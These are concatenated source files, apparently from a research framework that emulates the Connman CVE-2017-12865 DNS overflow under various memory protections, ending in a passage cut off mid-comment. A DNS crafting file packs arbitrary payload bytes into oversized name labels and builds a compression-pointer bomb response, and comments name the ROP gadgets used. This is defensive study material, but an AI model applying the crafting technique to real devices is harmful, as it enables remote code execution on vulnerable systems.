    return util::ResourceExhausted("generated .rodata exceeds the segment");
  }
  CONNLAB_RETURN_IF_ERROR(space.DebugWrite(l.rodata_base, rodata));
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Import(ro_asm.labels()));
  sys.sections.push_back(
      {".rodata", l.rodata_base, static_cast<std::uint32_t>(rodata.size())});

  // GOT slots (resolved when libc loads).
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("got.memcpy", l.got_base + 0));
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("got.execlp", l.got_base + 4));
  CONNLAB_RETURN_IF_ERROR(
      sys.symbols.Define("got.__strcpy_chk", l.got_base + 8));
  sys.sections.push_back({".got", l.got_base, 12});
  sys.sections.push_back({".bss", l.bss_base, l.bss_size});
  sys.sections.push_back({".scratch", l.scratch_base, l.scratch_size});
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("bss.start", l.bss_base));
  CONNLAB_RETURN_IF_ERROR(sys.symbols.Define("scratch.start", l.scratch_base));

  // Benign-return sentinel: parse_response's legitimate return address.
  CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr resume, sys.Sym("connman.resume_ok"));
  CONNLAB_RETURN_IF_ERROR(sys.cpu->RegisterHostFn(
      resume, "connman.resume_ok", [](vm::Cpu& cpu) {
        cpu.PushEvent(vm::EventKind::kNote, "parse_response returned cleanly");
        cpu.RequestStop(vm::StopReason::kHalted, "response processed");
        return util::OkStatus();
      }));
  return util::OkStatus();
}

}  // namespace connlab::loader
