#include "src/loader/boot.hpp"

#include "src/loader/connman_image.hpp"
#include "src/loader/libc_image.hpp"
#include "src/obs/obs.hpp"
#include "src/vm/decode_plan.hpp"

namespace connlab::loader {

util::Result<std::unique_ptr<System>> Boot(isa::Arch arch,
                                           const ProtectionConfig& prot,
                                           std::uint64_t seed) {
  OBS_TRACE_SPAN(boot_span, "loader", "Boot");
  OBS_COUNT("loader.boots");
  util::Rng rng(seed ^ 0xB007B007B007ULL);

  // High-entropy ASLR draws can (rarely) collide libc with the stack; real
  // kernels redraw, and so do we.
  for (int attempt = 0; attempt < 16; ++attempt) {
    auto sys = std::make_unique<System>();
    sys->arch = arch;
    sys->prot = prot;
    sys->boot_seed = seed;
    sys->rng = rng.Fork();
    sys->layout = RandomizedLayout(arch, prot, rng);
    sys->cpu = std::make_unique<vm::Cpu>(arch, sys->space);
    sys->cpu->set_shadow_stack_enabled(prot.cfi);

    CONNLAB_RETURN_IF_ERROR(LoadConnmanImage(*sys));
    CONNLAB_RETURN_IF_ERROR(LoadLibcImage(*sys));

    // Stack: rw- under W^X, rwx otherwise (the paper's "no protections"
    // builds were compiled with an executable stack).
    const mem::Perm stack_perm = prot.wx ? mem::kPermRW : mem::kPermRWX;
    util::Status stack_status =
        sys->space.Map("stack", sys->layout.stack_base(),
                       sys->layout.stack_size, stack_perm);
    if (!stack_status.ok()) {
      if (stack_status.code() == util::StatusCode::kAlreadyExists) continue;
      return stack_status;
    }
    sys->sections.push_back(
        {"stack", sys->layout.stack_base(), sys->layout.stack_size});

    // Full-width canaries keep the historical draw; narrower ones (the
    // brute-force-resistance knob) live in [0x01010101, 0x01010101 + 2^bits)
    // so an attacker's search space is exactly 2^canary_entropy_bits.
    if (prot.canary) {
      const std::uint32_t draw = sys->rng.NextU32();
      const int bits = prot.canary_entropy_bits;
      sys->canary_value =
          (bits >= 32 || bits < 1)
              ? draw | 0x01010101u
              : 0x01010101u + (draw & ((1u << bits) - 1u));
    } else {
      sys->canary_value = 0;
    }
    sys->cpu->set_sp(sys->layout.initial_sp());
    CONNLAB_ASSIGN_OR_RETURN(mem::GuestAddr entry, sys->Sym("connman._start"));
    sys->cpu->set_pc(entry);

    // Shared decode plans for the immutable text images (.text, libc):
    // executable and never writable, so the plan built from this content is
    // valid until a Protect or a debugger poke moves the generation. An
    // identically-seeded boot in another worker reuses the same plan; a
    // diversity-reshuffled boot hashes differently and gets its own. RWX
    // segments (the non-W^X stack) are skipped — the first shellcode byte
    // would invalidate the plan anyway.
    if (sys->cpu->shared_plans_enabled()) {
      for (const auto& seg : sys->space.segments()) {
        if (mem::Has(seg->perms(), mem::Perm::kExec) &&
            !mem::Has(seg->perms(), mem::Perm::kWrite)) {
          sys->cpu->BindDecodePlan(
              seg.get(),
              vm::DecodePlanRegistry::Instance().GetOrBuild(arch, *seg));
        }
      }
    }
    return sys;
  }
  return util::Internal("could not place stack after 16 ASLR redraws");
}

}  // namespace connlab::loader
