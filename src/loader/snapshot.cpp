#include "src/loader/snapshot.hpp"

namespace connlab::loader {

Snapshot TakeSnapshot(const System& sys) {
  Snapshot snap;
  snap.segments.reserve(sys.space.segments().size());
  for (const auto& seg : sys.space.segments()) {
    snap.segments.push_back(Snapshot::SegmentImage{
        seg->name(), seg->base(), seg->data(), seg->perms()});
  }
  snap.cpu = sys.cpu->SaveState();
  snap.rng = sys.rng;
  return snap;
}

util::Status RestoreSnapshot(System& sys, const Snapshot& snap) {
  const auto& segments = sys.space.segments();
  if (segments.size() != snap.segments.size()) {
    return util::FailedPrecondition("snapshot segment roster mismatch");
  }
  for (std::size_t i = 0; i < segments.size(); ++i) {
    const mem::Segment& seg = *segments[i];
    const Snapshot::SegmentImage& img = snap.segments[i];
    if (seg.name() != img.name || seg.base() != img.base ||
        seg.size() != img.data.size()) {
      return util::FailedPrecondition("snapshot does not match segment '" +
                                      seg.name() + "'");
    }
  }
  for (std::size_t i = 0; i < segments.size(); ++i) {
    mem::Segment& seg = *segments[i];
    const Snapshot::SegmentImage& img = snap.segments[i];
    // mutable_data() bumps the write generation, so stale predecodes of the
    // pre-restore bytes can never execute.
    seg.mutable_data() = img.data;
    seg.set_perms(img.perms);
  }
  sys.space.ClearFault();
  sys.cpu->RestoreState(snap.cpu);
  sys.rng = snap.rng;
  return util::OkStatus();
}

}  // namespace connlab::loader
