#include "src/loader/snapshot.hpp"

#include <atomic>

#include "src/obs/obs.hpp"
#include "src/vm/decode_plan.hpp"

namespace connlab::loader {

namespace {

std::atomic<bool> g_dirty_restore_default{true};

// Snapshot ids start at 1 so a freshly-mapped segment's baseline of 0 can
// never accidentally match a real snapshot.
std::atomic<std::uint64_t> g_next_snapshot_id{1};

}  // namespace

void SetDirtyRestoreDefault(bool enabled) noexcept {
  g_dirty_restore_default.store(enabled, std::memory_order_relaxed);
}

bool DirtyRestoreDefault() noexcept {
  return g_dirty_restore_default.load(std::memory_order_relaxed);
}

Snapshot TakeSnapshot(System& sys) {
  OBS_COUNT("loader.snapshots_taken");
  Snapshot snap;
  snap.id = g_next_snapshot_id.fetch_add(1, std::memory_order_relaxed);
  snap.segments.reserve(sys.space.segments().size());
  for (const auto& seg : sys.space.segments()) {
    snap.segments.push_back(Snapshot::SegmentImage{
        seg->name(), seg->base(), seg->data(), seg->perms(),
        vm::DecodePlan::HashContent(
            util::ByteSpan(seg->data().data(), seg->data().size()))});
    // From here on, "dirty" means "diverged from this snapshot".
    seg->ResetDirty(snap.id);
  }
  snap.cpu = sys.cpu->SaveState();
  snap.rng = sys.rng;
  return snap;
}

util::Status RestoreSnapshot(System& sys, const Snapshot& snap,
                             RestoreMode mode) {
  const auto& segments = sys.space.segments();
  if (segments.size() != snap.segments.size()) {
    return util::FailedPrecondition("snapshot segment roster mismatch");
  }
  for (std::size_t i = 0; i < segments.size(); ++i) {
    const mem::Segment& seg = *segments[i];
    const Snapshot::SegmentImage& img = snap.segments[i];
    if (seg.name() != img.name || seg.base() != img.base ||
        seg.size() != img.data.size()) {
      return util::FailedPrecondition("snapshot does not match segment '" +
                                      seg.name() + "'");
    }
  }
  const bool dirty_only = mode == RestoreMode::kDirtyOnly ||
                          (mode == RestoreMode::kDefault &&
                           DirtyRestoreDefault());
  std::uint64_t pages_copied = 0;
  std::uint64_t dirty_restores = 0;
  std::uint64_t full_restores = 0;
  for (std::size_t i = 0; i < segments.size(); ++i) {
    mem::Segment& seg = *segments[i];
    const Snapshot::SegmentImage& img = snap.segments[i];
    if (dirty_only && seg.dirty_baseline() == snap.id) {
      // The dirty bitmap measures divergence from exactly this snapshot:
      // copy back only the touched pages. An untouched segment keeps its
      // write generation, so predecodes and shared-plan bindings stay warm.
      pages_copied += seg.RestoreDirtyPagesFrom(
          util::ByteSpan(img.data.data(), img.data.size()));
      ++dirty_restores;
    } else {
      // Either a full restore was requested or the bitmap belongs to some
      // other snapshot of this System — copy wholesale. mutable_data()
      // bumps the write generation, so stale predecodes of the pre-restore
      // bytes can never execute.
      seg.mutable_data() = img.data;
      // The bytes now equal the snapshot's, so future dirty-only restores
      // against this snapshot may trust the (cleared) bitmap.
      seg.ResetDirty(snap.id);
      ++full_restores;
    }
    if (seg.perms() != img.perms) {
      // Roll back W^X flips etc.; bump mirrors AddressSpace::Protect so any
      // decode cached under the interim permissions dies with the restore.
      seg.set_perms(img.perms);
      seg.BumpGeneration();
    }
    // Full copies (and permission rollbacks) moved the generation even
    // though the content provably matches the snapshot image again; re-arm
    // the shared decode plan rather than losing it to the staleness check.
    sys.cpu->RearmDecodePlan(&seg, img.content_hash);
  }
  sys.space.ClearFault();
  sys.cpu->RestoreState(snap.cpu);
  sys.rng = snap.rng;
  OBS_COUNT("loader.restores");
  // Per-segment counts: a single restore call can mix modes when some
  // segments' dirty baselines match the snapshot and others don't.
  OBS_COUNT_N("loader.restore_segments_dirty", dirty_restores);
  OBS_COUNT_N("loader.restore_segments_full", full_restores);
  OBS_COUNT_N("mem.dirty_pages_copied", pages_copied);
  return util::OkStatus();
}

}  // namespace connlab::loader
