// Snapshot/restore fast reboots: capture a booted System's full guest state
// once, then rewind to it in microseconds instead of re-running the loader.
//
// A snapshot records what a fork-server parent process would hold frozen:
// every segment's bytes and permissions, the CPU's architectural state
// (registers, flags, shadow stack, event log) and the boot RNG stream.
// Restoring copies the bytes back (bumping each segment's write generation,
// so the predecode cache can never serve instructions from the pre-restore
// image) and resets the CPU. Host-side service objects (DnsProxy & friends)
// are NOT part of the snapshot — their host functions are stateless lambdas,
// so callers recreate the service object after a restore to clear host-side
// caches/pending tables, exactly as a fresh boot would.
//
// Used by src/fuzz (per-exec reboot after a corrupted run) and the defense
// diversity lab (one boot + many volleys per diversified victim).
#pragma once

#include <string>
#include <vector>

#include "src/loader/boot.hpp"
#include "src/mem/perms.hpp"
#include "src/util/bytes.hpp"
#include "src/util/rng.hpp"
#include "src/util/status.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::loader {

struct Snapshot {
  struct SegmentImage {
    std::string name;
    mem::GuestAddr base = 0;
    util::Bytes data;
    mem::Perm perms = mem::Perm::kNone;
  };
  std::vector<SegmentImage> segments;
  vm::Cpu::State cpu;
  util::Rng rng{0};
};

/// Captures the complete restorable state of a booted System.
[[nodiscard]] Snapshot TakeSnapshot(const System& sys);

/// Rewinds `sys` to `snap`. Fails (without touching the System) if the
/// segment roster no longer matches the snapshot — snapshots are only valid
/// against the System they were taken from, which never remaps.
util::Status RestoreSnapshot(System& sys, const Snapshot& snap);

}  // namespace connlab::loader
