// Snapshot/restore fast reboots: capture a booted System's full guest state
// once, then rewind to it in microseconds instead of re-running the loader.
//
// A snapshot records what a fork-server parent process would hold frozen:
// every segment's bytes and permissions, the CPU's architectural state
// (registers, flags, shadow stack, event log) and the boot RNG stream.
// Restoring copies the bytes back and resets the CPU. Host-side service
// objects (DnsProxy & friends) are NOT part of the snapshot — their host
// functions are stateless lambdas, so callers recreate the service object
// after a restore to clear host-side caches/pending tables, exactly as a
// fresh boot would.
//
// Restores come in two flavours:
//
//   kFull      — every segment's bytes are copied back wholesale and its
//                write generation bumped (the original behaviour).
//   kDirtyOnly — only the 256-byte pages written since TakeSnapshot are
//                copied back, using mem::Segment's dirty bitmap. A segment
//                that was never touched keeps its bytes AND its write
//                generation, so predecode-cache entries and shared decode
//                plans stay warm across the reboot. The dirty bitmap is only
//                trusted when the segment's baseline id matches this
//                snapshot's id (TakeSnapshot stamps it); any mismatch — an
//                older snapshot, an interleaved TakeSnapshot on the same
//                System — falls back to a full copy of that segment.
//
// Both flavours restore permissions too: a W^X flip (mprotect-style attack
// staging) between snapshot and restore is rolled back, with a generation
// bump mirroring AddressSpace::Protect so stale decodes die with it.
//
// Used by src/fuzz (per-exec reboot after a corrupted run) and the defense
// diversity lab (one boot + many volleys per diversified victim).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/loader/boot.hpp"
#include "src/mem/perms.hpp"
#include "src/util/bytes.hpp"
#include "src/util/rng.hpp"
#include "src/util/status.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::loader {

struct Snapshot {
  struct SegmentImage {
    std::string name;
    mem::GuestAddr base = 0;
    util::Bytes data;
    mem::Perm perms = mem::Perm::kNone;
    // Content hash of `data` (vm::DecodePlan::HashContent), used after a
    // full-copy restore to re-arm shared decode-plan bindings whose segment
    // generation moved but whose bytes provably did not change.
    std::uint64_t content_hash = 0;
  };
  std::vector<SegmentImage> segments;
  vm::Cpu::State cpu;
  util::Rng rng{0};
  // Unique id stamped into each segment's dirty baseline at TakeSnapshot
  // time; dirty-only restores verify it before trusting the dirty bitmap.
  std::uint64_t id = 0;
};

enum class RestoreMode {
  kDefault,    // whatever SetDirtyRestoreDefault says (dirty-only out of the box)
  kFull,       // copy every segment wholesale
  kDirtyOnly,  // copy only pages dirtied since TakeSnapshot
};

/// Process-wide default for RestoreMode::kDefault, mirroring the predecode
/// default toggle on vm::Cpu: the differential suite flips it to prove the
/// fast path is observably identical to the slow one.
void SetDirtyRestoreDefault(bool enabled) noexcept;
[[nodiscard]] bool DirtyRestoreDefault() noexcept;

/// Captures the complete restorable state of a booted System and resets
/// every segment's dirty bitmap against this snapshot's fresh baseline id.
[[nodiscard]] Snapshot TakeSnapshot(System& sys);

/// Rewinds `sys` to `snap`. Fails (without touching the System) if the
/// segment roster no longer matches the snapshot — snapshots are only valid
/// against the System they were taken from, which never remaps.
util::Status RestoreSnapshot(System& sys, const Snapshot& snap,
                             RestoreMode mode = RestoreMode::kDefault);

}  // namespace connlab::loader
