// Process-image layout for the simulated Connman target, per architecture,
// and the protection configuration the experiments sweep.
//
// The main image (.text/.plt/.rodata/.got/.bss/.scratch) is loaded at fixed
// addresses on both architectures — the paper's Connman build is not PIE, so
// ASLR leaves the executable (and therefore PLT references and .bss) static.
// Only the libc base and the stack base are randomised when ASLR is on,
// which is precisely the asymmetry the paper's ROP exploits live off.
#pragma once

#include <cstdint>
#include <string>

#include "src/isa/isa.hpp"
#include "src/mem/segment.hpp"
#include "src/util/rng.hpp"

namespace connlab::loader {

/// Which OS/toolchain defenses are active, mirroring §III's three levels.
struct ProtectionConfig {
  bool wx = false;      // W^X / DEP: stack pages not executable
  bool aslr = false;    // randomise libc base and stack base per boot
  bool canary = false;  // stack protector in parse_response (paper: off)
  /// Pages of ASLR entropy (libc and stack each draw this many bits).
  /// 32-bit Linux historically offers ~8-12 bits for mmap; default 12.
  int aslr_entropy_bits = 12;
  /// Canary entropy in bits (1..32). 32 models a full-width protector;
  /// lower values model weak per-boot randomness (the brute-force knob:
  /// the search space is exactly 2^bits, see defense::StackCanary).
  int canary_entropy_bits = 32;

  // §IV mitigation models (the paper's suggested defenses, for the E8
  // ablations — all off in the paper's experiments):
  /// Hardware-supported return-address protection (CFI CaRE flavour): a
  /// shadow stack checked on every return / pop {…, pc}.
  bool cfi = false;
  /// Compile-time software diversity: the image's function/gadget layout
  /// is permuted per build (`diversity_build` selects the build), so
  /// address-based exploits stop porting across builds.
  bool diversity = false;
  std::uint64_t diversity_build = 0;
  /// DAEDALUS-style load-time stochastic diversity: function order,
  /// inter-function gaps and libc entry offsets are drawn from the boot
  /// seed, so every boot of the same build exposes different gadget/PLT/
  /// libc addresses and a hardcoded exploit succeeds only by luck.
  bool stochastic_diversity = false;
  /// Heap-integrity checks (Abbasi-style embedded mitigation): the guest
  /// allocator verifies chunk-header canaries and safe-unlink invariants on
  /// every free and stops the VM with kHeapCorruption on a mismatch.
  bool heap_integrity = false;

  [[nodiscard]] std::string ToString() const;

  static ProtectionConfig None() { return {}; }
  static ProtectionConfig WxOnly() { return {.wx = true}; }
  static ProtectionConfig WxAslr() { return {.wx = true, .aslr = true}; }
  static ProtectionConfig All() {
    return {.wx = true, .aslr = true, .canary = true};
  }
  static ProtectionConfig WxAslrCfi() {
    return {.wx = true, .aslr = true, .cfi = true};
  }
  static ProtectionConfig Diversified(std::uint64_t build) {
    return {.wx = true, .aslr = true, .diversity = true, .diversity_build = build};
  }
  static ProtectionConfig StochasticDiversity() {
    return {.wx = true, .stochastic_diversity = true};
  }
};

/// Resolved addresses for one booted process. Fixed fields come from the
/// static layout below; libc_base / stack_top are randomised under ASLR.
struct Layout {
  isa::Arch arch = isa::Arch::kVX86;

  mem::GuestAddr text_base = 0;
  std::uint32_t text_size = 0;
  mem::GuestAddr rodata_base = 0;
  std::uint32_t rodata_size = 0;
  mem::GuestAddr got_base = 0;
  std::uint32_t got_size = 0;
  mem::GuestAddr bss_base = 0;
  std::uint32_t bss_size = 0;
  /// Small fixed RW data region belonging to the main image; the ARM
  /// parse_rr "expected pointer" slots must point here (see connman/frame).
  mem::GuestAddr scratch_base = 0;
  std::uint32_t scratch_size = 0;
  mem::GuestAddr heap_base = 0;
  std::uint32_t heap_size = 0;

  mem::GuestAddr libc_base = 0;   // randomised under ASLR
  std::uint32_t libc_size = 0;
  mem::GuestAddr stack_top = 0;   // randomised under ASLR (exclusive end)
  std::uint32_t stack_size = 0;
  [[nodiscard]] mem::GuestAddr stack_base() const noexcept {
    return stack_top - stack_size;
  }

  /// sp value at process entry: a little below the top so the environment /
  /// auxv analogue has room, and so an unbounded overflow runs off the
  /// mapping (the DoS case).
  [[nodiscard]] mem::GuestAddr initial_sp() const noexcept {
    return stack_top - 0x400;
  }
};

/// The fixed (no-ASLR) layout for an architecture.
Layout DefaultLayout(isa::Arch arch);

/// Applies ASLR (if enabled) to the default layout, drawing libc and stack
/// slides from `rng` at page granularity.
Layout RandomizedLayout(isa::Arch arch, const ProtectionConfig& prot,
                        util::Rng& rng);

}  // namespace connlab::loader
