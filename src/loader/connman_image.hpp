// Builds and loads the simulated Connman main image (.text / .rodata /
// .got / .bss / .scratch) for one architecture.
//
// The image is byte-for-byte deterministic per architecture — exploit
// profiles extracted on one boot stay valid on the next, just as the
// paper's authors reused gdb-derived addresses across runs (the binary is
// not PIE). The .text is populated with:
//   * entry labels for the parser routines the DnsProxy hosts natively
//     (connman.parse_response / get_name / parse_rr);
//   * PLT stubs + GOT slots for memcpy / execlp / __strcpy_chk — note there
//     is deliberately NO strcpy, matching the paper's observation that
//     Connman replaces strcpy with __strcpy_chk at compile time;
//   * the specific gadgets the paper uses (x86 pop;pop;pop;pop;ret, ARM
//     pop {r0,r1,r2,r3,r5,r6,r7,pc} and blx r3), plus a population of
//     ordinary-looking functions whose prologues/epilogues provide the
//     incidental gadgets a finder would see in a real binary.
#pragma once

#include "src/loader/boot.hpp"

namespace connlab::loader {

/// Maps the main image segments into sys.space, writes the generated
/// section contents and registers their symbols. Requires layout/cpu set.
util::Status LoadConnmanImage(System& sys);

}  // namespace connlab::loader
