// Booting a simulated Connman target: address space, CPU, loaded images,
// symbols — one `System` per simulated device process.
//
// Boot order mirrors a real exec: pick the (possibly ASLR-randomised)
// layout, map the main image at its fixed base, map libc and the stack,
// resolve the GOT against the loaded libc, and apply the protection config
// (stack RWX unless W^X). The returned System is pinned to the heap because
// the CPU holds a pointer into its address space.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "src/isa/isa.hpp"
#include "src/loader/image.hpp"
#include "src/loader/layout.hpp"
#include "src/mem/address_space.hpp"
#include "src/util/rng.hpp"
#include "src/util/status.hpp"
#include "src/vm/cpu.hpp"

namespace connlab::loader {

struct System {
  isa::Arch arch = isa::Arch::kVX86;
  ProtectionConfig prot;
  Layout layout;
  mem::AddressSpace space;
  std::unique_ptr<vm::Cpu> cpu;
  SymbolTable symbols;
  std::vector<SectionInfo> sections;
  /// Per-boot stack-protector value (only meaningful when prot.canary).
  std::uint32_t canary_value = 0;
  /// The seed this System was booted with; image builders derive the
  /// stochastic-diversity layout stream from it.
  std::uint64_t boot_seed = 0;
  /// Per-boot RNG stream (transaction ids etc. downstream).
  util::Rng rng{0};

  System() = default;
  System(const System&) = delete;
  System& operator=(const System&) = delete;

  [[nodiscard]] util::Result<mem::GuestAddr> Sym(const std::string& name) const {
    return symbols.Lookup(name);
  }
};

/// Boots a fresh simulated target. `seed` drives every random draw (ASLR
/// slides, canary value): same seed + same config => identical process image.
util::Result<std::unique_ptr<System>> Boot(isa::Arch arch,
                                           const ProtectionConfig& prot,
                                           std::uint64_t seed);

}  // namespace connlab::loader
