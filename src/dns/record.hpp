// DNS record model: RR types/classes and the ResourceRecord structure used
// in messages. Records carry either a well-formed dotted owner name or a
// raw LabelSeq (the malicious tier — used by the fake server to smuggle
// oversized names past a spec-unaware parser).
#pragma once

#include <cstdint>
#include <string>

#include "src/dns/name.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dns {

enum class Type : std::uint16_t {
  kA = 1,
  kNS = 2,
  kCNAME = 5,
  kSOA = 6,
  kPTR = 12,
  kMX = 15,
  kTXT = 16,
  kAAAA = 28,
  kAny = 255,
};

enum class Class : std::uint16_t {
  kIN = 1,
  kAny = 255,
};

std::string TypeName(Type type);

struct ResourceRecord {
  std::string name;     // dotted owner name (used when raw_name is empty)
  LabelSeq raw_name;    // raw labels override `name` on encode if non-empty
  Type type = Type::kA;
  Class klass = Class::kIN;
  std::uint32_t ttl = 300;
  util::Bytes rdata;

  [[nodiscard]] bool uses_raw_name() const noexcept { return !raw_name.empty(); }
};

/// A-record helpers: 4-byte IPv4 rdata.
ResourceRecord MakeA(std::string name, const std::string& dotted_quad,
                     std::uint32_t ttl = 300);
ResourceRecord MakeAAAA(std::string name, std::uint32_t ttl = 300);
ResourceRecord MakeTXT(std::string name, std::string_view text,
                       std::uint32_t ttl = 300);

/// Name-valued rdata helpers (RFC 1035 §3.3): the rdata is the target name
/// in uncompressed wire form. A malformed target yields empty rdata — the
/// Make* helpers mirror MakeA's forgiving contract so crafted messages can
/// still carry nonsense on purpose.
ResourceRecord MakeNS(std::string name, const std::string& target,
                      std::uint32_t ttl = 300);
ResourceRecord MakeCNAME(std::string name, const std::string& target,
                         std::uint32_t ttl = 300);
ResourceRecord MakePTR(std::string name, const std::string& target,
                       std::uint32_t ttl = 300);
/// MX rdata: 16-bit preference (big-endian) + exchange name.
ResourceRecord MakeMX(std::string name, std::uint16_t preference,
                      const std::string& exchange, std::uint32_t ttl = 300);

/// SOA rdata: mname + rname + five 32-bit big-endian bookkeeping fields.
struct SoaFields {
  std::string mname;              // primary master
  std::string rname;              // responsible mailbox (dotted form)
  std::uint32_t serial = 1;
  std::uint32_t refresh = 3600;
  std::uint32_t retry = 600;
  std::uint32_t expire = 86400;
  std::uint32_t minimum = 60;
};
ResourceRecord MakeSOA(std::string name, const SoaFields& soa,
                       std::uint32_t ttl = 300);

/// Rdata decoders for the typed records above. Rdata is treated as a
/// self-contained packet: compression pointers inside it are rejected by
/// the bounded decoder rather than followed into a packet that is no
/// longer in scope.
/// NS / CNAME / PTR: the target name in dotted form.
util::Result<std::string> DecodeNameRdata(const ResourceRecord& rr);
struct MxFields {
  std::uint16_t preference = 0;
  std::string exchange;
};
util::Result<MxFields> DecodeMX(const ResourceRecord& rr);
util::Result<SoaFields> DecodeSOA(const ResourceRecord& rr);
/// TXT: concatenation of every character-string chunk.
util::Result<std::string> DecodeTXT(const ResourceRecord& rr);

/// Parses "a.b.c.d" into 4 rdata bytes.
util::Result<util::Bytes> ParseIPv4(const std::string& dotted_quad);
/// Renders 4 rdata bytes as "a.b.c.d".
util::Result<std::string> FormatIPv4(util::ByteSpan rdata);

}  // namespace connlab::dns
