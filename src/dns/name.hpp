// DNS name encoding/decoding: dotted presentation form <-> wire label
// sequences, including RFC 1035 compression pointers on decode.
//
// Two tiers of API:
//  * the well-formed tier (EncodeName / DecodeName), which enforces the
//    spec limits (63-byte labels, 255-byte names) — used by the benign
//    client/server paths;
//  * the raw tier (LabelSeq / EncodeLabels), which encodes arbitrary label
//    sequences with NO limits — this is the malicious-crafting surface the
//    fake DNS server uses, because CVE-2017-12865 is triggered precisely by
//    a name whose *expansion* exceeds what the spec-abiding world produces.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::dns {

inline constexpr std::size_t kMaxLabelLen = 63;
inline constexpr std::size_t kMaxNameLen = 255;
/// Compression-pointer marker bits in a length byte.
inline constexpr std::uint8_t kCompressionFlags = 0xC0;

/// A raw sequence of labels (each 1..63 bytes when well-formed; the raw
/// tier permits 1..63 only — longer is unencodable — but contents are
/// arbitrary bytes, including NULs).
using LabelSeq = std::vector<util::Bytes>;

/// Splits "www.example.com" into labels. Rejects empty labels (consecutive
/// dots), oversized labels and oversized names. "" and "." mean the root.
util::Result<LabelSeq> ParseDotted(std::string_view dotted);

/// Joins labels back into dotted form (non-printable bytes are escaped as
/// \DDD, RFC 1035 master-file style).
std::string ToDotted(const LabelSeq& labels);

/// Encodes a well-formed dotted name (with terminating root label).
util::Status EncodeName(util::ByteWriter& w, std::string_view dotted);

/// Encodes raw labels verbatim; `terminate` appends the root label. Fails
/// only if some label is empty or longer than 63 (unencodable in the wire
/// format — the length byte has 6 usable bits).
util::Status EncodeLabels(util::ByteWriter& w, const LabelSeq& labels,
                          bool terminate = true);

struct DecodedName {
  std::string dotted;       // presentation form
  LabelSeq labels;          // raw labels
  std::size_t wire_len = 0; // bytes consumed at the original offset
};

/// Decodes the name starting at packet[offset], following compression
/// pointers (bounded by `max_hops` to defuse pointer loops) and enforcing
/// the 255-byte name limit. This is the *correct* decoder — the vulnerable
/// guest get_name in src/connman deliberately does not use it.
util::Result<DecodedName> DecodeName(util::ByteSpan packet, std::size_t offset,
                                     int max_hops = 16);

}  // namespace connlab::dns
