#include "src/dns/craft.hpp"

#include <algorithm>

namespace connlab::dns {

util::Status PayloadImage::SetBytes(std::size_t offset, util::ByteSpan data) {
  if (offset + data.size() > bytes_.size()) {
    return util::OutOfRange("payload bytes past image end");
  }
  for (std::size_t i = 0; i < data.size(); ++i) {
    bytes_[offset + i] = data[i];
    required_[offset + i] = true;
  }
  return util::OkStatus();
}

util::Status PayloadImage::SetWord(std::size_t offset, std::uint32_t value) {
  const std::uint8_t raw[4] = {
      static_cast<std::uint8_t>(value & 0xFF),
      static_cast<std::uint8_t>((value >> 8) & 0xFF),
      static_cast<std::uint8_t>((value >> 16) & 0xFF),
      static_cast<std::uint8_t>((value >> 24) & 0xFF)};
  return SetBytes(offset, util::ByteSpan(raw, 4));
}

util::Status PayloadImage::Require(std::size_t offset, std::size_t len) {
  if (offset + len > bytes_.size()) {
    return util::OutOfRange("required range past image end");
  }
  for (std::size_t i = 0; i < len; ++i) required_[offset + i] = true;
  return util::OkStatus();
}

util::Result<LabelSeq> CutIntoLabels(const PayloadImage& image) {
  const std::size_t size = image.size();
  if (size < 2) return util::InvalidArgument("payload image too small");
  if (image.required(0)) {
    return util::ResourceExhausted(
        "image byte 0 is required but always holds a label length");
  }

  // Dynamic program, right to left: can_finish[p] = a label starting with
  // its length byte at position p can reach exactly `size`.
  // From cut p the next cut is q = p + 1 + L, L in [1, 63]; q must be
  // `size` (done; terminator 0 lands at name[size]) or a don't-care byte.
  std::vector<std::int8_t> can_finish(size + 1, 0);
  std::vector<std::uint8_t> step(size + 1, 0);  // chosen label length at p
  can_finish[size] = 1;
  for (std::size_t p = size; p-- > 0;) {
    if (p != 0 && image.required(p)) continue;  // cannot cut here
    // Prefer the longest label (fewest boundaries).
    const std::size_t max_len = std::min<std::size_t>(kMaxLabelLen, size - p - 1);
    for (std::size_t len = max_len; len >= 1; --len) {
      const std::size_t q = p + 1 + len;
      if (can_finish[q] != 0) {
        can_finish[p] = 1;
        step[p] = static_cast<std::uint8_t>(len);
        break;
      }
      if (len == 1) break;
    }
  }
  if (can_finish[0] == 0) {
    return util::ResourceExhausted(
        "required bytes too dense: no label cut available in some 64-byte "
        "window");
  }

  LabelSeq labels;
  std::size_t p = 0;
  while (p < size) {
    const std::size_t len = step[p];
    util::Bytes content;
    content.reserve(len);
    for (std::size_t i = 0; i < len; ++i) {
      content.push_back(image.at(p + 1 + i));
    }
    labels.push_back(std::move(content));
    p += 1 + len;
  }
  return labels;
}

util::Bytes ExpandLabels(const LabelSeq& labels) {
  util::Bytes out;
  for (const util::Bytes& label : labels) {
    out.push_back(static_cast<std::uint8_t>(label.size()));
    out.insert(out.end(), label.begin(), label.end());
  }
  out.push_back(0);
  return out;
}

util::Result<LabelSeq> JunkLabels(std::size_t total_len, std::uint8_t filler) {
  PayloadImage image(total_len, filler);
  return CutIntoLabels(image);
}

util::Result<util::Bytes> CompressionBombResponse(const Message& query,
                                                  int run_labels) {
  if (run_labels < 1 || run_labels > 60) {
    return util::InvalidArgument("run_labels out of range");
  }
  if (query.questions.size() != 1) {
    return util::InvalidArgument("single-question query required");
  }
  util::ByteWriter w;
  w.WriteU16BE(query.header.id);
  w.WriteU16BE(0x8180);  // QR | RD | RA
  w.WriteU16BE(1);       // qdcount
  w.WriteU16BE(1);       // ancount
  w.WriteU16BE(0);
  w.WriteU16BE(0);
  CONNLAB_RETURN_IF_ERROR(EncodeName(w, query.questions[0].name));
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].type));
  w.WriteU16BE(static_cast<std::uint16_t>(query.questions[0].klass));

  // The answer's owner name: `run_labels` maximal labels followed by a
  // pointer back to the run's own start. Every hop through the pointer
